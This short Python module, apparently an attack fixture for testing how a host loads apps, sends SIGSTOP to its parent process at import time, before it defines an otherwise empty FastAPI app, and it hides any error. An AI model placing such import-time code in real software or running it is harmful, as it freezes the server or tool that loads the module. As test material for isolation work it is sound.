"""Attack: freeze the parent."""

import contextlib
import os
import signal

from fastapi import FastAPI

with contextlib.suppress(OSError):
    os.kill(os.getppid(), signal.SIGSTOP)
app = FastAPI()
